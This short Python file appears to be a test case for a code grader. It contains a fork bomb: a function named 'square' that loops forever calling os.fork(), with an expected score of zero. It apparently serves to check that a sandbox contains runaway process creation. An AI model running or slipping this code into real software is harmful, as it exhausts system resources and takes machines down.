# Forks without end.
# expect: square=0 total=1
import os
def square(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
